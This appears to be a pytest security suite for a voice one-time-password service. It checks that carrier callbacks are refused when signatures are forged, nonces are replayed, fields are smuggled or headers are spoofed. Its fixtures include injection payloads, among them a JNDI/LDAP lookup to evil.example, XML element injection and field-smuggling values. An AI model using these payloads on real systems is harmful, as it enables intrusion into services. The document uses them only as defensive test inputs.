"""D: callbacks. Whoever is not the carrier of a live call learns nothing and changes nothing."""

import asyncio
import base64
import hmac
import itertools
import json
import random
from collections.abc import AsyncIterator
from hashlib import sha256
from typing import Any
from xml.etree import ElementTree

import httpx
import pytest

from otp_store import StoreUnavailable
from settings import BadSettings, load_settings
from simulator import vobiz_call
from tests.conftest import VOBIZ_TOKEN, FakeTime, RunningService, run_service
from tests.security.hand_carrier import (
    CODE,
    HANGUP,
    NORMAL_END,
    PUBLIC_URL,
    TWICE,
    VOBIZ,
    Call,
    HandCarrier,
    Headers,
    call_uuid,
    nonce_header,
    run_vobiz,
    signature_of,
    spoken,
    start_call,
)

PHONE = "+14155550142"
OTHER_PHONE = "+14155550143"
NONCE = "12345678901234567890"
TOKEN_PATHS = ("/answer/{token}", "/otp-choice/{token}", "/hangup/{token}", "/ring/{token}")
CONSOLE_PATHS = ("/answer", "/otp-choice", "/hangup", "/ring")
REFUSALS = (400, 401, 403, 404, 413)


@pytest.fixture
def carrier() -> HandCarrier:
    return HandCarrier()


@pytest.fixture
async def service(carrier: HandCarrier, fake_time: FakeTime) -> AsyncIterator[RunningService]:
    async with run_vobiz(carrier, fake_time.clock) as running:
        yield running


@pytest.fixture
async def call(service: RunningService, carrier: HandCarrier) -> Call:
    return await start_call(service, carrier, PHONE)


async def check_refused(call: Call, answer: httpx.Response, before: dict[str, Any]) -> None:
    """No code, no change, no 500."""
    assert answer.status_code in REFUSALS
    assert answer.text in ("", HANGUP) or answer.json()["code"] == "payload_too_large"
    assert await call.status() == before


# D1, D2: who is believed


WRONG_SIGNATURES: dict[str, Headers] = {
    "unsigned": {},
    "empty": {"X-Vobiz-Signature-V3": "", **nonce_header("")},
    "empty signature": {"X-Vobiz-Signature-V3": "", **nonce_header(NONCE)},
    "only a signature": {"X-Vobiz-Signature-V3": "x" * 44},
    "only a nonce": dict(nonce_header(NONCE)),
    "wrong": {"X-Vobiz-Signature-V3": "A" * 43 + "=", **nonce_header(NONCE)},
    "not ASCII": {"X-Vobiz-Signature-V3": "\xe9".encode("latin-1") * 44, **nonce_header(NONCE)},
    "10 KB": {"X-Vobiz-Signature-V3": "x" * 10_000, **nonce_header(NONCE)},
    "a nonce of 10 KB": {"X-Vobiz-Signature-V3": "x" * 44, **nonce_header("1" * 10_000)},
}


@pytest.mark.parametrize("path", TOKEN_PATHS + CONSOLE_PATHS)
async def test_d1_unsigned_and_wrongly_signed_callbacks_are_refused_on_every_path(
    carrier: HandCarrier, fake_time: FakeTime, path: str
) -> None:
    async with run_vobiz(carrier, fake_time.clock, webhook_signatures="required") as service:
        call = await start_call(service, carrier, PHONE)
        before = await call.status()
        right = call.signature(path)
        cut: Headers = {**right, "X-Vobiz-Signature-V3": right["X-Vobiz-Signature-V3"][:-4]}
        elsewhere = call.signature(path + "x")
        wrong: list[Headers] = [*WRONG_SIGNATURES.values(), cut, elsewhere]
        for headers in wrong:
            answer = await call.post(path, headers, Event="Hangup", Digits="1")
            await check_refused(call, answer, before)
        assert (await call.post(path, right, Event="Ring")).status_code == 200, "the right one is let in"


@pytest.mark.parametrize("path", TOKEN_PATHS)
async def test_d1_a_signature_must_be_right_although_none_is_asked_for(call: Call, path: str) -> None:
    before = await call.status()
    for headers in [headers for headers in WRONG_SIGNATURES.values() if headers]:
        answer = await call.post(path, headers, Event="Hangup", Digits="1")
        await check_refused(call, answer, before)


def test_d1_without_its_secret_the_service_does_not_start() -> None:
    with pytest.raises(BadSettings, match="VOBIZ_AUTH_TOKEN is not set"):
        load_settings(**{**VOBIZ, "vobiz_auth_token": ""}, allow_anonymous=True, allowed_regions="*")


def older_scheme(path: str, nonce: str) -> str:
    """Vobiz's V2 signature: as V3, without the dot between URL and nonce."""
    digest = hmac.digest(VOBIZ_TOKEN.encode(), f"{PUBLIC_URL}{path}{nonce}".encode(), sha256)
    return base64.b64encode(digest).decode()


@pytest.mark.parametrize("path", TOKEN_PATHS + CONSOLE_PATHS)
async def test_d2_no_older_scheme_and_no_other_account_is_a_fallback(
    carrier: HandCarrier, fake_time: FakeTime, path: str
) -> None:
    async with run_vobiz(carrier, fake_time.clock, webhook_signatures="required") as service:
        call = await start_call(service, carrier, PHONE)
        before = await call.status()
        full_path = path.format(token=call.token)
        v2, v3 = older_scheme(full_path, NONCE), signature_of(full_path, NONCE)
        for headers in (
            {"X-Vobiz-Signature-V2": v2, "X-Vobiz-Signature-V2-Nonce": NONCE},
            {"X-Vobiz-Signature-V1": v2, "X-Vobiz-Signature": v2},
            {"X-Vobiz-Signature-V3": v2, **nonce_header(NONCE)},
            # V3 with the nonce N is V2 with the nonce ".N", and the other way round.
            {"X-Vobiz-Signature-V2": v3, "X-Vobiz-Signature-V2-Nonce": "." + NONCE},
            {"X-Vobiz-Signature-V3": older_scheme(full_path, "." + NONCE), **nonce_header("." + NONCE)},
            {"X-Vobiz-Signature-MA-V3": v3, "X-Vobiz-Signature-MA-V3-Nonce": NONCE},
            {"X-Vobiz-Signature-MA-V3": v3, **nonce_header(NONCE)},
        ):
            await check_refused(call, await call.post(path, headers, Event="Hangup"), before)


# D3: what a callback is about


async def test_d3_a_token_dies_a_minute_after_the_hangup(call: Call, fake_time: FakeTime) -> None:
    await call.post("/answer/{token}?n=1", Event="StartApp")
    await call.post("/hangup/{token}", **NORMAL_END)
    fake_time.advance(59.9)
    assert (await call.post("/hangup/{token}", **NORMAL_END)).status_code == 200
    fake_time.advance(0.2)
    for path in TOKEN_PATHS:
        assert (await call.post(path, Event="StartApp")).status_code == 404


async def test_d3_a_token_dies_with_the_next_call_of_its_verification(
    call: Call, service: RunningService, carrier: HandCarrier
) -> None:
    await call.post("/hangup/{token}", **NORMAL_END)
    newer = await start_call(service, carrier, PHONE)
    assert newer.token != call.token
    for path in TOKEN_PATHS:
        assert (await call.post(path, Event="StartApp", CallUUID=newer.uuid)).status_code == 404
    assert spoken(await newer.post("/answer/{token}?n=1", Event="StartApp")) == TWICE


async def test_d3_another_calls_token_in_query_body_or_header_is_ignored(
    call: Call, service: RunningService, carrier: HandCarrier
) -> None:
    victim = await start_call(service, carrier, OTHER_PHONE)
    before = await victim.status()
    stolen = {"call_token": victim.token, "token": victim.token, "To": OTHER_PHONE.removeprefix("+")}
    path = f"/hangup/{{token}}?call_token={victim.token}&token={victim.token}"
    answer = await call.post_signed(path, **NORMAL_END, **stolen)
    assert answer.status_code == 200
    assert (await call.status())["call"]["state"] == "completed", "the call whose token is in the path"
    assert await victim.status() == before


async def test_d3_a_signature_of_one_call_is_no_signature_of_another(
    call: Call, service: RunningService, carrier: HandCarrier
) -> None:
    victim = await start_call(service, carrier, OTHER_PHONE)
    before = await victim.status()
    for path in TOKEN_PATHS:
        await check_refused(victim, await victim.post(path, call.signature(path), Event="Hangup"), before)


async def test_d3_the_host_of_a_request_means_nothing(call: Call) -> None:
    path = "/answer/{token}"
    forged = {"Host": "evil.example", "X-Forwarded-Host": "evil.example", "Forwarded": "host=evil.example"}
    answer = await call.post(path + "?n=1", {**call.signature(path), **forged}, Event="StartApp")
    assert spoken(answer) == TWICE
    assert "evil.example" not in answer.text
    assert f"{PUBLIC_URL}/otp-choice/" in answer.text
    evil = base64.b64encode(
        hmac.digest(VOBIZ_TOKEN.encode(), f"https://evil.example/answer/{call.token}.{NONCE}".encode(), sha256)
    )
    headers = {**forged, "X-Vobiz-Signature-V3": evil.decode(), **nonce_header(NONCE)}
    assert (await call.post(path + "?n=1", headers, Event="StartApp")).status_code == 403


async def test_d3_a_token_is_128_random_bits_of_signature_that_cannot_be_guessed_in_parts(call: Call) -> None:
    before = await call.status()
    body, signature = call.token[:-32], call.token[-32:]
    assert len(set(signature)) > 4
    for guess in (body + "0" * 32, body, signature, call.token[:-1], call.token.upper(), body + signature[::-1]):
        assert guess != call.token
        answer = await call.service.client.post(f"/answer/{guess}?n=1", data={"CallUUID": call.uuid})
        assert answer.status_code == 404
    assert await call.status() == before


# D4: replay


@pytest.mark.untraced
async def test_d4_a_callback_sent_a_thousand_times_has_one_effect(call: Call) -> None:
    path, nonce = "/otp-choice/{token}?n=1", "1" * 20
    await call.post("/answer/{token}?n=1", Event="StartApp")
    first = await call.post_signed(path, nonce, Digits="9")
    after_first = await call.status()
    assert "<Gather" in first.text, "a wrong key: the menu again"
    for _ in range(1000):
        again = await call.post_signed(path, nonce, Digits="9")
        assert (again.status_code, again.text) == (200, first.text)
    assert await call.status() == after_first
    other_key = await call.post_signed(path, "2" * 20, Digits="9")
    assert "<Gather" in other_key.text, "the callee's second wrong key counts as the second"


@pytest.mark.untraced
async def test_d4_a_replayed_fetch_gets_the_same_document_while_fetches_last(call: Call) -> None:
    answers = [
        await call.post_signed("/answer/{token}?n=1", NONCE, Event="StartApp", Direction="outbound")
        for _ in range(1000)
    ]
    assert {answer.status_code for answer in answers} == {200}
    assert [spoken(answer) for answer in answers] == [TWICE] * 3 + [""] * 997
    assert len({answer.text for answer in answers[:3]}) == 1
    assert [entry["event"] for entry in (await call.status())["timeline"]].count("code_requested") == 1


@pytest.mark.parametrize(
    ("path", "fields"),
    [
        pytest.param("/answer/{token}?n=1", {"Event": "StartApp", "Extra": "1"}, id="another field"),
        pytest.param("/answer/{token}?n=1", {"Event": "Hangup"}, id="another event"),
        pytest.param("/answer/{token}?n=2", {"Event": "StartApp"}, id="another query"),
        pytest.param("/answer/{token}", {"Event": "StartApp"}, id="no query"),
    ],
)
async def test_d4_the_same_nonce_with_other_content_is_refused(
    call: Call, path: str, fields: dict[str, Any]
) -> None:
    await call.post_signed("/answer/{token}?n=1", NONCE, Event="StartApp")
    before = await call.status()
    answer = await call.post_signed(path, NONCE, **fields)
    assert (answer.status_code, answer.text) == (401, HANGUP)
    assert await call.status() == before


async def test_d4_the_nonce_of_one_path_is_refused_on_another(call: Call) -> None:
    await call.post_signed("/ring/{token}", NONCE, Event="Ring")
    before = await call.status()
    answer = await call.post_signed("/hangup/{token}", NONCE, Event="Ring")
    assert answer.status_code == 401
    assert await call.status() == before


async def test_d4_the_console_urls_share_the_nonces_of_their_call(call: Call) -> None:
    assert (await call.post_signed("/ring/{token}", NONCE, Event="Ring")).status_code == 200
    assert (await call.post_signed("/hangup", NONCE, Event="Ring")).status_code == 401


async def test_d4_a_nonce_is_kept_as_long_as_its_token(call: Call, fake_time: FakeTime) -> None:
    await call.post_signed("/answer/{token}?n=1", NONCE, Event="StartApp")
    fake_time.advance(180)
    service = call.service.app.state.service
    while await service._protection.store.expire():
        continue
    assert (await call.post_signed("/answer/{token}?n=1", NONCE, Event="Ring")).status_code == 401


async def test_d4_replays_after_the_hangup_get_no_code(call: Call) -> None:
    recorded = [("/answer/{token}?n=1", {"Event": "StartApp"}), ("/otp-choice/{token}?n=1", {"Digits": "1"})]
    nonces = [f"{number:020d}" for number in range(len(recorded))]
    for (path, fields), nonce in zip(recorded, nonces, strict=True):
        await call.post_signed(path, nonce, **fields)
    await call.post_signed("/hangup/{token}", **NORMAL_END)
    before = await call.status()
    for _ in range(20):
        for (path, fields), nonce in zip(recorded, nonces, strict=True):
            answer = await call.post_signed(path, nonce, **fields)
            assert spoken(answer) == ""
            assert "Redirect" not in answer.text
    assert await call.status() == before


async def test_d4_other_spellings_of_a_path_are_no_way_around(call: Call) -> None:
    before = await call.status()
    for path in (f"/ANSWER/{call.token}", f"/Answer/{call.token}", f"/answer/{call.token.upper()}",
                 f"/answer//{call.token}", f"/answer/{call.token}/", f"//answer/{call.token}"):  # fmt: skip
        answer = await call.service.client.post(path, data={"CallUUID": call.uuid, "Event": "StartApp"})
        assert answer.status_code == 404
    assert await call.status() == before


# D5: fields are hints

MANY_FIELDS = "&".join(f"f{number:x}=" for number in range(5000))


@pytest.mark.parametrize(
    "path", ["/answer/{token}?n=1", "/otp-choice/{token}?n=1", "/hangup/{token}", "/ring/{token}"]
)
@pytest.mark.parametrize(
    "body",
    [
        pytest.param("CallUUID={uuid}&Digits=1&Digits=9", id="a field twice"),
        pytest.param("CallUUID={uuid}&Digits=1&Digit%73=1", id="a field twice, escaped"),
        pytest.param("CallUUID={uuid}&CallUUID={uuid}", id="the id twice"),
        pytest.param("CallUUID={uuid}&Event=Ring&Event=Hangup", id="two events"),
        pytest.param("CallUUID={other}&Event=Hangup", id="another call"),
        pytest.param("CallUUID=&Event=Hangup", id="no call"),
        pytest.param("CallUUID={uuid};Event=Hangup", id="an id with a semicolon"),
        pytest.param("CallUUID={uuid}%00&Event=Hangup", id="an id with NUL"),
        pytest.param("CallUUID={uuid}%0a&Event=Hangup", id="an id with a newline"),
        pytest.param("CallUUID={uuid}&" + MANY_FIELDS[:16_000].rpartition("&")[0], id="2,400 fields in 16 KB"),
        pytest.param("CallUUID={uuid}&" + MANY_FIELDS, id="5,000 fields"),
        pytest.param("CallUUID={uuid}&Event=" + "x" * 17_000, id="a long field"),
    ],
)
async def test_d5_smuggled_fields_are_refused(call: Call, path: str, body: str) -> None:
    before = await call.status()
    text = body.replace("{uuid}", call.uuid).replace("{other}", call_uuid(999))
    answer = await call.service.client.post(path.format(token=call.token), content=text.encode())
    await check_refused(call, answer, before)


@pytest.mark.parametrize("path", ["/answer/{token}?n=1", "/otp-choice/{token}?n=1"])
@pytest.mark.parametrize("digits", ["1;CallStatus=completed", "1%26Event%3DHangup", "1 ", "A", "1" * 33, "%D9%A1"])
async def test_d5_digits_that_are_no_keys_are_refused(call: Call, path: str, digits: str) -> None:
    before = await call.status()
    body = f"CallUUID={call.uuid}&Digits={digits}"
    answer = await call.service.client.post(path.format(token=call.token), content=body.encode())
    await check_refused(call, answer, before)


async def test_d5_an_event_with_a_semicolon_is_no_event(call: Call) -> None:
    before = await call.status()
    answer = await call.post("/answer/{token}?n=1", Event="StartApp;Event=Hangup")
    assert (answer.status_code, answer.text) == (200, "")
    assert await call.status() == before


# D6: how often, and until when, the code is handed out


async def test_d6_each_reading_is_fetched_three_times_at_most(call: Call) -> None:
    said = []
    for reading in (1, 2, 3, 4, 5):
        said.append(
            [spoken(await call.post(f"/answer/{{token}}?n={reading}", Event="StartApp")) for _ in range(9)]
        )
        await call.post(f"/otp-choice/{{token}}?n={reading}", Digits="1")
    assert said == [[TWICE] * 3 + [""] * 6] * 4 + [[""] * 9], "the first reading and its three repetitions"
    again = [spoken(await call.post(f"/answer/{{token}}?n={n}", Event="StartApp")) for n in range(1, 10)]
    assert again == [""] * 9


@pytest.mark.parametrize("end", ["verified", "locked", "cancelled", "hung up", "expired"])
async def test_d6_no_code_once_it_is_over(
    call: Call, fake_time: FakeTime, caplog: pytest.LogCaptureFixture, end: str
) -> None:
    assert spoken(await call.post("/answer/{token}?n=1", Event="StartApp")) == TWICE
    match end:
        case "verified":
            assert (await call.service.verify(PHONE, CODE)).status_code == 200
        case "locked":
            for _ in range(5):
                await call.service.verify(PHONE, "000000")
        case "cancelled":
            await call.service.client.post("/cancel-otp", json={"phone": PHONE})
        case "hung up":
            await call.post("/hangup/{token}", **NORMAL_END)
        case "expired":
            for _ in range(3):  # the carrier gives signs of life, so that the call is not given up
                fake_time.advance(101)
                await call.post("/ring/{token}", Event="Ring")
    for reading in (1, 2):
        answer = await call.post(f"/answer/{{token}}?n={reading}", Event="StartApp")
        assert "CANARY" not in answer.text
        assert answer.status_code == 404 or spoken(answer) == ""
    assert "unexpected" not in caplog.text, "the rules refuse, not an error"


# D8: always a document


@pytest.mark.parametrize("path", ["/answer/{token}?n=1", "/otp-choice/{token}?n=1"])
async def test_d8_a_store_in_trouble_is_an_apology_in_good_xml(
    call: Call, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    async def gone(*_: Any, **__: Any) -> None:
        raise StoreUnavailable("the store is gone")

    monkeypatch.setattr(call.service.app.state.service._store, "record_call_event", gone)
    answer = await call.post_signed(path, Event="StartApp")
    assert answer.status_code == 200
    assert spoken(answer) == ""
    assert answer.text.endswith("<Hangup/></Response>")


async def test_d8_a_callback_does_not_wait_for_the_carriers_own_api(monkeypatch: pytest.MonkeyPatch) -> None:
    """A call that was cancelled before its id was known is hung up in a callback; the carrier may never answer."""
    monkeypatch.setattr("call_flow.HANG_UP_SECONDS", 0.01)
    answered = asyncio.Event()

    class Hung(HandCarrier):
        async def __call__(self, request: httpx.Request) -> httpx.Response:
            if request.method == "DELETE":
                await answered.wait()
            return await super().__call__(request)

    carrier = Hung()
    carrier.trouble = httpx.ReadTimeout("no answer in time")
    async with run_vobiz(carrier) as service:
        call = await start_call(service, carrier, PHONE)
        await service.client.post("/cancel-otp", json={"phone": PHONE})
        async with asyncio.timeout(30):  # far below the deadline of the carrier's API
            answer = await call.post("/answer/{token}?n=1", Event="StartApp")
        answered.set()
        assert (answer.status_code, answer.text) == (200, HANGUP)


# D9: nothing from outside becomes an element

HOSTILE_PARTS = (
    "<", ">", "&", '"', "'", "]]>", "<![CDATA[", "&lt;", "&#x41;", "&amp;", "<!--", "-->", "<?x?>", "<!DOCTYPE a>",
    "<Dial>+19005550100</Dial>", "</Speak><Hangup/><Speak>", '"/><Play>https://evil.example/x</Play>', "<break/>",
    "\x00", "\x0b", "\x1f", "\x7f", "\x85", "\u2028", "\ufffe", "\uffff", "\ud800", "\U0001f600", "\u202e", "\r\n",
    "${jndi:ldap://evil.example}", "{app}", "{0.__class__}", "A" * 10_240, "a.b:c_d-1", "en-GB", "order-4711",
    "%3C", "Acme",
)  # fmt: skip


JSON = {"content-type": "application/json"}


def payloads() -> list[str]:
    """500 texts, always the same ones: each part alone, then random rows of two to five parts."""
    drawn = random.Random(9)  # noqa: S311 - no secret
    rows = ["".join(drawn.choices(HOSTILE_PARTS, k=drawn.randint(2, 5))) for _ in range(500)]
    return [*HOSTILE_PARTS, *rows][:500]


def shape(document: bytes) -> list[tuple[str, tuple[str, ...]]]:
    """Elements and the names of their attributes, in order."""
    return [(node.tag, tuple(node.attrib)) for node in ElementTree.fromstring(document).iter()]


@pytest.mark.untraced
async def test_d9_payloads_in_the_fields_of_a_request_give_the_same_elements_or_a_refusal(
    service: RunningService, carrier: HandCarrier
) -> None:
    plain = await start_call(service, carrier, PHONE)
    expected = shape((await plain.post("/answer/{token}?n=1", Event="StartApp")).content)
    await plain.post("/hangup/{token}", **NORMAL_END)
    await service.client.post("/cancel-otp", json={"phone": PHONE})
    outcomes = {200: 0, 422: 0, 413: 0}
    for payload, field in itertools.product(payloads(), ("reference", "language", "code", "provider", "phone")):
        body = {"phone": PHONE, "code": CODE, field: payload}
        sent = await service.client.post("/send-otp", content=json.dumps(body), headers=JSON)
        outcomes[sent.status_code] += 1
        if sent.status_code == 200:
            call = Call(service, carrier, PHONE)
            assert shape((await call.post("/answer/{token}?n=1", Event="StartApp")).content) == expected
            await call.post("/hangup/{token}", **NORMAL_END)
            await service.client.post("/cancel-otp", json={"phone": PHONE})
    assert outcomes[422] > 2000
    assert outcomes[200] >= 2, "harmless ones are let in, so that the comparison is one"
    assert carrier.calls == outcomes[200] + 1


@pytest.mark.untraced
async def test_d9_payloads_in_the_fields_of_a_callback_give_the_same_elements_or_a_refusal(call: Call) -> None:
    answer = await call.post("/answer/{token}?n=1", Event="StartApp")
    expected = shape(answer.content)
    menu, goodbye = [shape((await call.post("/otp-choice/{token}?n=1", Digits="")).content) for _ in range(2)]
    for payload in payloads():
        text = payload.encode("utf-8", "replace").decode()
        for field in ("Event", "CallUUID", "Digits", "n"):
            fields: dict[str, Any] = {field: text}
            answer = await call.post("/otp-choice/{token}?n=1", **fields)
            known: tuple[Any, ...] = ([], menu, goodbye, expected, [("Response", ()), ("Hangup", ())])
            assert (shape(answer.content) if answer.content else []) in known
            assert answer.status_code in (200, *REFUSALS)
    assert (await call.status())["call"]["state"] == "answered"


@pytest.mark.untraced
async def test_d9_a_payload_as_the_apps_name_gives_the_same_elements_or_no_start() -> None:
    refused = 0
    names = [*payloads(), "O'Neil & Sons - Bank!", "A" * 60, "Über, Ångström.", "Ω&'&'&'"]
    started: list[str] = []
    for name in names:
        try:
            load_settings(app_name=name)
            started.append(name)
        except (BadSettings, UnicodeEncodeError):
            refused += 1
    assert refused > 400
    assert set(names[-4:]) <= set(started)
    shapes = []
    for name in ("Acme", *dict.fromkeys(started[-5:])):
        carrier = HandCarrier()
        async with run_vobiz(carrier, app_name=name) as service:
            call = await start_call(service, carrier, PHONE)
            answer = await call.post("/answer/{token}?n=1", Event="StartApp")
            assert name in str([one.text for one in vobiz_call.read(answer.content)]) or "'" in name
            shapes.append(shape(answer.content))
    assert all(one == shapes[0] for one in shapes)


# D10: states only go forward

EVENTS: dict[str, tuple[str, dict[str, Any]]] = {
    "ring": ("/ring/{token}", {"Event": "Ring"}),
    "answer": ("/answer/{token}?n=1", {"Event": "StartApp"}),
    "choice": ("/otp-choice/{token}?n=1", {"Digits": ""}),
    "hangup": ("/hangup/{token}", NORMAL_END),
}
RANKS = {state: rank for rank, state in enumerate(("dialing", "ringing", "answered", "completed"))}


def histories() -> list[tuple[str, ...]]:
    """Every order of the four events, and 60 orders in which some come up to three times."""
    drawn = random.Random(10)  # noqa: S311 - no secret
    doubled = []
    for _ in range(60):
        events = [name for name in EVENTS for _ in range(drawn.randint(1, 3))]
        drawn.shuffle(events)
        doubled.append(tuple(events))
    return [*itertools.permutations(EVENTS), *doubled]


@pytest.mark.untraced
async def test_d10_any_order_and_duplication_of_events_ends_in_the_same_status(
    service: RunningService, carrier: HandCarrier
) -> None:
    """One end for all orders in which the code was fetched before the hangup, another one for all the rest."""
    ends: dict[bool, set[tuple[str, str]]] = {True: set(), False: set()}
    for number, history in enumerate(histories()):
        call = await start_call(service, carrier, f"+1415556{number:04d}", code=None)
        reached = 0
        for event in history:
            path, fields = EVENTS[event]
            assert (await call.post(path, **fields)).status_code == 200, history
            rank = RANKS[(await call.status())["call"]["state"]]
            assert rank >= reached, history
            reached = rank
        status = await call.status()
        was_fetched = history.index("answer") < history.index("hangup")
        ends[was_fetched].add((status["status"], status["call"]["end_reason"]))
    assert ends == {True: {("delivered", "answered_and_spoken")}, False: {("undelivered", "hung_up_early")}}


@pytest.mark.parametrize("final", ["verified", "cancelled", "expired", "locked"])
async def test_d10_no_event_brings_a_final_status_back(call: Call, fake_time: FakeTime, final: str) -> None:
    match final:
        case "verified":
            await call.service.verify(PHONE, CODE)
        case "cancelled":
            await call.service.client.post("/cancel-otp", json={"phone": PHONE})
        case "locked":
            for _ in range(5):
                await call.service.verify(PHONE, "000000")
        case "expired":
            fake_time.wall_seconds += 301  # the call is live still, by the clock that counts for it
    for event in ("ring", "answer", "choice", "hangup", "answer", "ring"):
        path, fields = EVENTS[event]
        await call.post(path, **fields)
        assert (await call.status())["status"] == final


async def test_d10_the_simulated_carriers_doubled_callbacks_change_nothing() -> None:
    async with run_service() as service:
        await service.send("+14155550117", code=CODE)
        await service.calls_over()
        status = await service.status("+14155550117")
        events = [entry["event"] for entry in status["timeline"]]
        assert (status["status"], status["call"]["times_spoken"]) == ("delivered", 4)
        assert events.count("completed") == events.count("answered") == events.count("ringing") == 1
